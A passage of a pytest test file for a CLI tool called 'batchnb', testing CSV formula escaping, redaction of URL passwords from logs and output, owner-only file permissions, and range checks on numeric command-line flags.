    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert -3 in [c.value for c in cells if c.data_type == "n"]
    r = batchnb(*base, "-o", str(tmp_path / "out.csv"), env=RUN_ENV)
    written = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
    assert written["note"].tolist() == ["'" + FORMULA, "'-draft"] and written["delta"].tolist() == ["-3", "4"]
    r = batchnb(*base, "-o", str(tmp_path / "raw.csv"), "--raw-cells", env=RUN_ENV)
    assert r.returncode == 0, r.stderr
    assert pd.read_csv(tmp_path / "raw.csv", dtype=str)["note"].tolist() == [FORMULA, "-draft"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--raw-cells"], "batchnb: run --raw-cells: applies to -o, which is not given"),
        (["--raw-cells", "-o", "r.xlsx"], "batchnb: run --raw-cells: applies to a CSV output"),
    ],
)
def test_raw_cells_applies_to_a_csv_output_only(tmp_path, args, said):
    ops = companies_csv(tmp_path / "ops.csv", ["A"])
    r = batchnb("run", str(ops), "--url", "http://127.0.0.1:9", *args, cwd=tmp_path)
    assert r.returncode == 2 and r.stderr.startswith(said), r.stderr


# ---------------------------------------------------------------- a URL's password is never shown

PASSWORD = "S3cretPassw0rd"


@pytest.mark.slow
@pytest.mark.skipif(sys.platform == "win32", reason="POSIX file modes")
def test_a_password_in_the_url_appears_nowhere_and_files_are_the_owners_only(tmp_path, demo_server):
    url, _db = demo_server
    ops = companies_csv(tmp_path / "ops.csv", ["A", "B"])
    closed = f"http://alice:{PASSWORD}@127.0.0.1:{free_port()}"
    served = url.replace("http://", f"http://alice:{PASSWORD}@")
    env = {**RUN_ENV, "BATCHNB_URL": ""}
    for n, target in enumerate([closed, served]):
        out, journal = tmp_path / f"out{n}.csv", tmp_path / f"j{n}.jsonl"
        args = ["run", str(ops), "--url", target, "--method", "POST", "--path", CO, "--body-columns", "name"]
        r = batchnb(*args, "--retries", "0", "-o", str(out), "--journal", str(journal), env=env)
        assert r.returncode == 1, r.stderr
        stdout = batchnb(*args, "--retries", "0", "-o", "-", env=env).stdout
        for shown in (r.stdout, r.stderr, stdout, out.read_text(), journal.read_text()):
            assert PASSWORD not in shown, shown
        assert out.stat().st_mode & 0o777 == 0o600 and journal.stat().st_mode & 0o777 == 0o600
    r = batchnb("run", str(ops), "--url", f"ftp://alice:{PASSWORD}@127.0.0.1:9", env=env)
    assert r.returncode == 2 and "ftp://***@127.0.0.1:9" in r.stderr and PASSWORD not in r.stderr


@pytest.mark.slow
def test_serve_names_its_upstream_without_the_password(tmp_path):
    upstream = f"http://alice:{PASSWORD}@127.0.0.1:{free_port()}"
    with serving(tmp_path, "--upstream", upstream, env={**ENV, "BATCHNB_TOKEN": "t"}) as (_url, log):
        text = log.read_text()
    assert "the upstream http://***@127.0.0.1:" in text and PASSWORD not in text


# ---------------------------------------------------------------- numbers given as flags


@pytest.mark.slow
@pytest.mark.parametrize(
    ("command", "flag", "value"),
    [
        ("serve", "--idempotency-ttl", "0"),
        ("serve", "--idempotency-ttl", "nan"),
        ("serve", "--idempotency-ttl", "-3600"),
        ("serve", "--max-requests", "0"),
        ("serve", "--operation-timeout", "inf"),
        ("serve", "--port", "0"),
        ("run", "--concurrency", "0"),
        ("run", "--retry-for", "nan"),
        ("run", "--batch-rate", "-1"),
    ],
)
def test_a_number_flag_out_of_its_range_exits_2_naming_the_flag(tmp_path, command, flag, value):
    args = [str(companies_csv(tmp_path / "ops.csv", ["A"])), "--url", "http://127.0.0.1:9"] if command == "run" else []
    r = batchnb(command, *args, flag, value, cwd=tmp_path)
    assert r.returncode == 2, r.stderr
    assert flag in r.stderr and repr(value) in r.stderr.replace(f"not {value}", f"not {value!r}"), r.stderr
    assert "Traceback" not in r.stderr and r.stdout == ""


def _numbers_of(command: str) -> list[tuple[str, object]]:
    """Every flag of ``command`` that takes a number: its name and default."""
    from batchnb.cli import build_parser

    sub = next(a for a in build_parser()._actions if isinstance(a, argparse._SubParsersAction)).choices[command]
    return [
        (a.option_strings[-1], a.default)
        for a in sub._actions
        if a.option_strings and isinstance(a.default, (int, float)) and not isinstance(a.default, bool)
    ]


@pytest.mark.parametrize("value", ["0", "-1", "nan", "inf", "-inf", "1e999", "x", "", "٣"])
def test_every_number_flag_of_serve_refuses_what_is_not_in_its_range(value, capsys):
    from batchnb.cli import build_parser

    flags = _numbers_of("serve")
    assert {"--port", "--idempotency-ttl", "--workers", "--max-requests", "--batch-timeout"} <= {f for f, _ in flags}
    for flag, _default in flags:
        if value == "0" and flag == "--max-concurrent-batches":
            continue  # 0 takes no batch: each is answered 429 (and says so in its help)
        with pytest.raises(SystemExit) as exit:
            build_parser().parse_args(["serve", f"{flag}={value}"])
        assert exit.value.code == 2 and f"argument {flag}: must be " in capsys.readouterr().err, flag


@pytest.mark.parametrize("value", ["0", "-1", "nan", "inf", "x"])
def test_every_number_flag_of_run_refuses_what_is_not_in_its_range(tmp_path, value, capsys):
    from batchnb.cli import main

    ops = str(companies_csv(tmp_path / "ops.csv", ["A"]))
    flags = dict(_numbers_of("run"))
    assert set(flags) >= {"--concurrency", "--retries", "--retry-for"}
    for flag in [*flags, "--batch-rate", "--rate"]:
        if value == "0" and flag in ("--retries", "--retry-for"):
            continue  # no resend, no retry: both mean what they say
        try:
            status = main(["run", ops, "--url", "http://127.0.0.1:9", "--dry-run", f"{flag}={value}"])
        except SystemExit as exit:  # argparse: not a number at all
            status = exit.code
        err = capsys.readouterr().err
        assert status == 2 and flag in err and "Traceback" not in err, (flag, err)
